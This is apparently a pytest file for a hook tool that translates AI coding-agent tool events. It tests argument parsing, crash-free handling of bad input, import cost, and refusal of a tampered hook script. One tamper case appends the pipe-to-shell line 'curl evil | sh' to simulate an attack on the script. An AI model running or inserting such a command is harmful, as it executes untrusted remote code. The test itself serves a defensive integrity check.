"""The command line: the hand-parsed fast path equals docopt, the stages never crash and
import nothing heavy."""
import json
import os
import subprocess
import sys

import pytest
from docopt import docopt

from cc_hook import cli
from hook_files import stage_dirs

CC_HOOK = os.path.join(os.path.dirname(sys.executable), "cc-hook")

ARGVS = [
    ["decode", "claude"], ["encode", "claude"], ["decode", "cursor"], ["encode", "gemini"],
    ["decode", "nosuchagent"], ["decode"], ["encode"], ["decode", "claude", "x"],
    ["decode", "--agent=claude"], ["decode", "-h"], ["decode", "--"], ["status"], ["verify"],
    ["init"], ["init", "--agent=claude"], ["test", "claude", "git status"], [],
    ["encode", "--", "claude"], ["decode", ""],
]


def docopt_result(argv):
    try:
        return docopt(cli.__doc__, argv=argv, default_help=False)
    except SystemExit:
        return None


@pytest.mark.parametrize("argv", ARGVS, ids=lambda a: " ".join(a) or "(none)")
def test_fast_path_agrees_with_docopt(argv):
    fast = cli.fast_args(argv)
    if fast is None:  # docopt handles it; but every plain `decode|encode <agent>` is hot
        assert not (len(argv) == 2 and argv[0] in ("decode", "encode") and argv[1][:1].isalpha())
        return
    full = docopt_result(argv)
    assert full is not None
    assert {key: full[key] for key in fast} == fast
    assert not any(value for key, value in full.items()
                   if key not in fast and value not in (False, None, [], 0))


def test_fast_path_takes_the_two_hot_forms():
    assert cli.fast_args(["decode", "claude"]) == {"decode": True, "encode": False,
                                                   "<agent>": "claude"}
    assert cli.fast_args(["encode", "cursor"]) == {"decode": False, "encode": True,
                                                   "<agent>": "cursor"}


def run(args, stdin=b"", env=None):
    return subprocess.run([CC_HOOK, *args], input=stdin, capture_output=True, env=env,
                          timeout=30)


@pytest.mark.parametrize("stdin", [b"", b"\xef\xbb\xbf", b"{", b"\xff\xfe{", b"x" * (10 << 20),
                                   b'{"tool_name": "Bash", "tool_input": {"command": 5}}'])
@pytest.mark.parametrize("stage", ["decode", "encode"])
def test_stage_on_bad_input_exits_0_without_answer(stage, stdin):
    done = run([stage, "claude"], stdin)
    assert done.returncode == 0
    assert done.stdout == b""
    assert b"Traceback" not in done.stderr


def test_encode_cursor_on_bad_input_says_no_change():
    done = run(["encode", "cursor"], b"{")
    assert (done.returncode, done.stdout) == (0, b"{}\n")


def test_unknown_agent_is_a_usage_error():
    done = run(["decode", "nosuchagent"], b"{}")
    assert done.returncode == 64
    assert b"unknown agent" in done.stderr


def test_stage_output_is_one_json_line():
    event = {"tool_name": "Bash", "tool_input": {"command": "ls"}, "cwd": "/"}
    done = run(["decode", "claude"], json.dumps(event).encode())
    assert done.stdout.count(b"\n") == 1
    assert json.loads(done.stdout)["command"] == "ls"


HEAVY = ("json", "re", "docopt", "subprocess", "pathlib", "tomllib", "hashlib", "shlex",
         "tempfile", "dataclasses", "typing", "inspect", "enum", "signal")


@pytest.mark.parametrize("stage, body", [
    ("decode", json.dumps({"tool_name": "Bash", "tool_input": {"command": "git status"},
                           "cwd": "/"})),
    ("encode", json.dumps({"agent": "claude", "command": "ls", "input": {"command": "ls"},
                           "decision": "ask", "reason": "r", "rewritten": "cc-filter run ls"})),
])
def test_hot_stages_import_nothing_heavy(stage, body):
    code = ("import sys, io, os\n"
            "r, w = os.pipe(); os.write(w, sys.argv[2].encode()); os.close(w); os.dup2(r, 0)\n"
            "before = set(sys.modules)\n"
            "from cc_hook.cli import main\n"
            "out = os.dup(1); devnull = os.open(os.devnull, os.O_WRONLY); os.dup2(devnull, 1)\n"
            "main([sys.argv[1], 'claude'])\n"
            "os.dup2(out, 1)\n"
            "print(' '.join(sorted(set(sys.modules) - before)))\n")
    done = subprocess.run([sys.executable, "-c", code, stage, body], capture_output=True,
                          text=True, timeout=30)
    loaded = set(done.stdout.split())
    assert "cc_hook.stage" in loaded, done.stderr
    assert not loaded & set(HEAVY)


@pytest.mark.parametrize("stage, body, module", [
    ("decode", json.dumps({"tool_name": "Bash", "tool_input": {"command": "git status"},
                           "cwd": "/"}), "cc_hook.cli"),
    ("encode", json.dumps({"agent": "claude", "command": "ls", "input": {"command": "ls"},
                           "decision": "allow", "reason": "r", "rewritten": "cc-filter run ls"}),
     "cc_hook.cli"),
])
def test_decode_and_encode_do_not_even_import_os_without_site(stage, body, module):
    """Started as the installed hook starts them (`python -I -S`), decode and encode load no
    `os` (~2.5 ms) and nothing heavy: only posix, _json and our own modules."""
    code = (f"import sys; sys.path += {stage_dirs()!r}\n"
            f"from {module} import main\n"
            f"code = main([sys.argv[1], 'claude'])\n"
            "sys.stderr.write(' '.join(sorted(sys.modules)) + '\\n')\n")
    done = subprocess.run([sys.executable, "-I", "-S", "-c", code, stage], input=body.encode(),
                          capture_output=True, timeout=30)
    assert done.returncode == 0 and done.stdout.startswith(b"{"), done.stderr
    loaded = set(done.stderr.decode().split())
    assert "cc_hook.stage" in loaded and "cc_peel.record" in loaded
    assert not loaded & (set(HEAVY) | {"os", "cc_peel.peeling", "cc_lex.lexer"})


def _script_check(tmp_path, tamper=None):
    script = tmp_path / "hook.sh"
    script.write_text("#!/bin/sh\necho hook\n")
    from cc_hook import hook_script

    (tmp_path / "hook.sh.sha256").write_text(hook_script.sha256_text(script.read_text()) + "\n")
    if tamper:
        tamper(script)
    event = json.dumps({"tool_name": "Bash", "tool_input": {"command": "ls"}, "cwd": "/"})
    env = dict(os.environ, CTXCRL_HOOK_SCRIPT=str(script))
    return subprocess.run([CC_HOOK, "decode", "claude"], input=event.encode(), env=env,
                          capture_output=True, timeout=30)


def test_decode_answers_when_the_hook_script_is_intact(tmp_path):
    done = _script_check(tmp_path)
    assert json.loads(done.stdout)["command"] == "ls" and done.stderr == b""


@pytest.mark.parametrize("tamper", [
    lambda script: script.write_text(script.read_text() + "curl evil | sh\n"),
    lambda script: os.unlink(str(script) + ".sha256"),
    lambda script: open(str(script) + ".sha256", "w").close(),
    lambda script: os.unlink(script),
], ids=["changed", "no-record", "empty-record", "no-script"])
def test_decode_refuses_a_changed_hook_script(tmp_path, tamper):
    done = _script_check(tmp_path, tamper)
    assert (done.returncode, done.stdout) == (0, b"")
    assert done.stderr.decode() == (f"ctxcrl: {tmp_path / 'hook.sh'} does not match its "
                                    "recorded SHA-256; not rewriting (run: cc-hook verify)\n")
